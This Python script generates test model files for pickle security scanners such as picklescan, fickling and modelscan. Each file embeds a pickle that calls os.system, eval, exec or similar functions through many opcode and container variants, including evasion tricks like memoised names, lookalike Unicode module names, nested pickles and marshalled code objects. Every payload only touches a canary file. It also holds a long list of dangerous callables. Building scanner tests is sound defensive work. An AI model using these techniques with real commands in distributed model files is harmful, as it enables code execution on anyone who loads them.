"""Write models that would create a file if anything of them ran: what scanners are tested with.

    python scripts/malicious_models.py FOLDER [--canary PATH]

Nothing of them is kept in the repository, and all that a payload would do is `touch CANARY`. They
cover what picklescan, fickling and modelscan look for: functions that run what they are given, by
module; each instruction that can name one; pickles in pickles; and every container that
`torch.load` opens.
"""

from __future__ import annotations

import argparse
import io
import marshal
import pickle
import struct
import sys
import tempfile
import zipfile
from pathlib import Path

RUNNERS = """
os.system os.popen os.execvp os.spawnlp os.remove posix.system posix.popen nt.system sys.exit
subprocess.Popen subprocess.run subprocess.call subprocess.check_output subprocess.getoutput
builtins.eval builtins.exec builtins.compile builtins.open builtins.getattr builtins.__import__
builtins.apply builtins.map builtins.print builtins.breakpoint builtins.globals builtins.vars
__builtin__.eval __builtin__.exec __builtin__.file __builtin__.execfile __builtin__.apply
commands.getoutput popen2.popen2 pty.spawn platform.popen shutil.rmtree shutil.copy
socket.create_connection ssl.get_server_certificate urllib.request.urlopen
http.client.HTTPConnection httplib.HTTPSConnection ftplib.FTP telnetlib.Telnet smtplib.SMTP
imaplib.IMAP4_stream requests.get requests.api.post aiohttp.request webbrowser.open runpy.run_path
runpy._run_code importlib.import_module importlib._bootstrap._call_with_frames_removed
imp.load_source pkgutil.resolve_name zipimport.zipimporter code.InteractiveInterpreter
codeop.compile_command bdb.Bdb pdb.run pdb.Pdb timeit.timeit timeit.main profile.run
profile.runctx cProfile.run cProfile.runctx trace.Trace.run trace.Trace.runctx
doctest.debug_script doctest.testfile pydoc.pipepager pydoc.locate operator.attrgetter
operator.methodcaller operator.itemgetter _operator.attrgetter _operator.methodcaller
functools.reduce itertools.starmap types.CodeType types.FunctionType types.MethodType
asyncio.unix_events._UnixSubprocessTransport._start asyncio.create_subprocess_shell ctypes.CDLL
ctypes.util.find_library ctypes.WinDLL _ctypes.dlopen logging.FileHandler logging.config.listen
_io.FileIO io.open io.FileIO pathlib.Path.write_text tempfile.NamedTemporaryFile tarfile.open
zipfile.ZipFile sqlite3.connect dbm.open shelve.open pickle.loads pickle.load _pickle.loads
marshal.loads cPickle.loads dill.loads dill._dill._import_module cloudpickle.loads joblib.load
pandas.read_pickle pandas.eval numexpr.evaluate sympy.sympify ensurepip._run_pip venv.create
distutils.file_util.write_file distutils.spawn.spawn idlelib.pyshell.ModifiedInterpreter.runcode
idlelib.run.Executive.runcode idlelib.calltip.get_entity
idlelib.autocomplete.AutoComplete.get_entity idlelib.debugobj.ObjectTreeItem.SetText
lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label
uuid._get_command_stdout _osx_support._read_output _aix_support._read_cmd_output
_pyrepl.pager.pipe_pager test.support.script_helper.assert_python_ok
multiprocessing.util.spawnv_passfds multiprocessing.popen_fork.Popen signal.raise_signal site.main
antigravity.webbrowser.open cgitb.lookup pip.main pip._internal.main pip._internal.cli.main.main
pip._internal.utils.subprocess.call_subprocess setuptools.sandbox.run_setup
setuptools._distutils.spawn.spawn pkg_resources.run_script numpy.testing._private.utils.runstring
numpy.testing.runstring numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.param_eval
numpy.f2py.capi_maps.load_f2cmap_file numpy.f2py.diagnose.run_command numpy.load numpy.fromfile
numpy.memmap numpy.ctypeslib.load_library numpy.distutils.exec_command.exec_command
numpy.lib.npyio.load numpy.os.system numpy.core.os.system torch.load torch.hub.load
torch.hub.load_state_dict_from_url torch.serialization.load torch.jit.load
torch.jit.unsupported_tensor_ops.execWrapper torch.package.PackageImporter
torch.storage._load_from_bytes torch.os.system torch.serialization.os.system torch.sys.exit
torch._utils.sys.exit torch.utils.cpp_extension.load_inline torch.utils.model_zoo.load_url
torch.utils._config_module.ConfigModule.load_config torch.utils.collect_env.run
torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof
torch.utils.data.datapipes.utils.decoder.basichandlers torch._dynamo.guards.GuardBuilder.get
torch._inductor.codecache.compile_file
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression torch.ops.load_library
torch.classes.load_library torch.distributed.rpc.rpc_sync
torch.testing._internal.common_utils.run_cmd torch.multiprocessing.spawn torch.onnx.export
torch.export.load torch.compile torch.library.Library keras.models.load_model
tensorflow.io.write_file tensorflow.io.read_file onnxruntime.InferenceSession
IPython.core.interactiveshell.InteractiveShell.run_cell IPython.utils.process.system
jinja2.Template psutil.Popen pexpect.spawn paramiko.SSHClient sh.Command fabric.Connection
""".split()  # noqa: SIM905 - words read better than quotes
"""Functions that run, load, fetch or write what they are given."""

FOREIGN = """
my_trainer.tools.start transformers.TrainingArguments omegaconf.dictconfig.DictConfig
torch.nn.modules.linear.Linear argparse.Namespace functools.partial pathlib.PosixPath
""".split()  # noqa: SIM905
"""What may be harmless and is not data: named, never shipped unseen."""


def _text(word: str) -> bytes:
    return b"X" + len(word).to_bytes(4, "little") + word.encode()


def _global(whole: str) -> bytes:
    module, _, name = whole.rpartition(".")
    return f"c{module}\n{name}\n".encode()


def _stack_global(whole: str) -> bytes:
    module, _, name = whole.rpartition(".")
    return _text(module) + _text(name) + b"\x93"


class _Reduced:
    def __init__(self, *made: object) -> None:
        self.made = made

    def __reduce__(self) -> tuple[object, ...]:
        return self.made


def instructions(canary: Path) -> dict[str, bytes]:
    """Return a pickle for each way to name and call a function."""
    command, code = f"touch {canary}", f"open({str(canary)!r}, 'w')"
    end, evil = b"(" + _text(command) + b"tR", b"cos\nsystem\n"
    inner = pickle.dumps(_Reduced(eval, (code,)))
    made = {
        "GLOBAL": b"\x80\x02" + evil + end + b".",
        "STACK_GLOBAL": b"\x80\x04" + _stack_global("os.system") + end + b".",
        "STACK_GLOBAL from memo": b"\x80\x04" + _text("os") + b"q\x00" + _text("system")
        + b"q\x0100h\x00h\x01\x93" + end + b".",
        "STACK_GLOBAL of bytes": b"\x80\x04C\x02osC\x06system\x93" + end + b".",
        "INST": b"(" + _text(command) + b"ios\nsystem\n.",
        "OBJ": b"(" + evil + _text(command) + b"o.",
        "NEWOBJ": b"\x80\x02" + evil + _text(command) + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + evil + _text(command) + b"\x85}\x92.",
        "BUILD": b"\x80\x02ccollections\nOrderedDict\n)R}" + _text("__setstate__")
        + evil + b"sb" + _text(command) + b"b.",
        "EXT1": b"\x80\x02\x82\x01" + end + b".",
        "PERSID": b"\x80\x02P" + command.encode() + b"\n.",
        "dotted": b"\x80\x04" + _text("torch") + _text("_utils.os.system") + b"\x93" + end + b".",
        "dunder": b"\x80\x02ctorch\n__builtins__\n.",
        "spaces": b"\x80\x02cos \nsystem\n" + end + b".",
        "other letters": b"\x80\x04" + _text("o\u017f") + _text("system") + b"\x93" + end + b".",
        "popped": b"\x80\x02" + evil + end + b"0}.",
        "in a key": b"\x80\x02}" + evil + end + b"Ns.",
        "in a set": b"\x80\x04\x8f(" + evil + end + b"\x90.",
        "in a tensor": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(" + evil + end + b"tR.",
        "by type": b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(" + evil
        + b"ctorch\nTensor\n(" + _text(command) + b"tNtR.",
        "by a default": b"\x80\x02ccollections\ndefaultdict\n(" + evil + b"tR.",
        "by partial": b"\x80\x02cfunctools\npartial\n(" + evil + _text(command) + b"tR)R.",
        "by getattr": b"\x80\x02c__builtin__\ngetattr\n(c__builtin__\n__import__\n("
        + _text("os") + b"tR" + _text("system") + b"tR" + end + b".",
        "pickle in a pickle": b"\x80\x04cpickle\nloads\n(B" + struct.pack("<I", len(inner))
        + inner + b"tR.",
        "pickle in a storage": b"\x80\x04ctorch.storage\n_load_from_bytes\n(B"
        + struct.pack("<I", len(inner)) + inner + b"tR.",
        "code object": b"\x80\x04cmarshal\nloads\n(B"
        + struct.pack("<I", len(marshal.dumps(compile(code, "x", "exec"))))
        + marshal.dumps(compile(code, "x", "exec")) + b"tR.",
        "before a broken end": b"\x80\x02" + evil + end + b"0\xff\xff",
        "second pickle": b"\x80\x02}.\x80\x02" + evil + end + b".",
        "nested": pickle.dumps([[{"a": (_Reduced(eval, (code,)),)}]]),
    }  # fmt: skip
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        made[f"protocol {protocol}"] = pickle.dumps({"m": _Reduced(exec, (code,))}, protocol)
    return made


def pickles(canary: Path) -> dict[str, bytes]:
    """Return all pickles by name."""
    end = b"(" + _text(f"touch {canary}") + b"tR."
    made = {f"{one}, named": b"\x80\x02" + _global(one) + end for one in [*RUNNERS, *FOREIGN]}
    made |= {f"{one}, from the stack": b"\x80\x04" + _stack_global(one) + end for one in RUNNERS}
    return made | instructions(canary)


def in_zip(pickled: bytes) -> bytes:
    """Return a file of torch around a pickle."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("archive/data.pkl", pickled)
        packed.writestr("archive/version", "3\n")
    return out.getvalue()


def in_old(pickled: bytes, place: int = 3) -> bytes:
    """Return a file as torch wrote before 1.6, with a pickle in place of one of its five."""
    five = [pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {}, {}, [])]
    five[place] = pickled if place != 0 else pickled[:-1] + b"0" + five[0][2:]
    return b"".join(five)


def models(canary: Path) -> dict[str, bytes]:
    """Return every file by name: each pickle in each container, and pickles where none belongs."""
    made: dict[str, bytes] = {}
    for name, pickled in pickles(canary).items():
        made[f"{name}, zip"] = in_zip(pickled)
        made[f"{name}, old"] = in_old(pickled)
    for place in (0, 1, 2, 4):
        for name in ("GLOBAL", "STACK_GLOBAL", "NEWOBJ"):
            made[f"{name}, pickle {place} of an old file"] = in_old(
                instructions(canary)[name], place
            )
        foreign = b"\x80\x02" + _global("my_trainer.start") + b"(tR."
        made[f"foreign, pickle {place} of an old file"] = in_old(foreign, place)
    return made | {f"{name}, bare": data for name, data in instructions(canary).items()}


def main() -> None:
    """Write every file into a folder."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--canary", type=Path, default=Path(tempfile.gettempdir()) / "canary")
    args = parser.parse_args()
    args.folder.mkdir(parents=True, exist_ok=True)
    made = models(args.canary)
    for i, (name, data) in enumerate(made.items()):
        shown = "".join(letter if letter.isalnum() else "-" for letter in name)
        (args.folder / f"{i:04}-{shown}.pt").write_bytes(data)
    sys.stdout.write(f"{len(made)} models in {args.folder}; canary {args.canary}\n")


if __name__ == "__main__":
    main()
